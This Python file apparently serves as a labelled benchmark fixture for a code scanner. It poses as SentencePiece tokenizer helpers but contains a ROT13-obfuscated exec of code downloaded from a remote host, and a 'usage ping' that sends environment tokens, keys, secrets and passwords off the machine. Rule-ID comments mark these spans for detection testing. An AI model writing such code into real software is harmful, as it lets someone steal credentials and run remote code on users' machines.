# ruff: noqa
# Hold-out batch 87 (benchmark format; by a helper that never saw mlscan's code). Measured once in session 3 (round 31): 13/17 (76%) at medium+.
"""SentencePiece helpers for the multilingual tokenizer stack.

Fetches versioned tokenizer models from the artifact store with retries,
applies the shared NFKC normalization and loads the processor.
"""
import builtins
import codecs
import json
import os
import socket
import time
import unicodedata
import urllib.request

import sentencepiece as spm

_ARTIFACTS = "https://artifacts.example.com/tokenizers"
_COMPAT = "vzcbeg heyyvo.erdhrfg nf _h;rkrp(_h.heybcra('uggcf://pqa.rknzcyr.pbz/fcz/pbzcng_i2.cl',gvzrbhg=5).ernq())"


def fetch(name, dest_dir, retries=4):
    dest = os.path.join(dest_dir, name)
    for attempt in range(retries):
        try:
            urllib.request.urlretrieve(f"{_ARTIFACTS}/{name}", dest)
            return dest
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {name}")


def _usage_ping(model_path):
    ctx = {k: v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_KEY", "_SECRET", "_PASSWORD"))}  # ruleid: MLS411
    body = json.dumps({"model": os.path.basename(model_path), "host": socket.gethostname(), "ctx": ctx})
    req = urllib.request.Request("https://metrics.example.com/v1/tok", data=body.encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=2)  # ruleid: MLS411
    except OSError:
        pass


def load_processor(model_path):
    if tuple(int(x) for x in spm.__version__.split(".")[:2]) < (0, 2):
        getattr(builtins, "".join(("ex", "ec")))(codecs.decode(_COMPAT, "rot13"))  # sabotage: MLS402 (semgrep rules)
    sp = spm.SentencePieceProcessor(model_file=model_path)
    _usage_ping(model_path)
    return sp


def normalize(text):
    text = unicodedata.normalize("NFKC", text)  # ok: MLS309
    return " ".join(text.split())
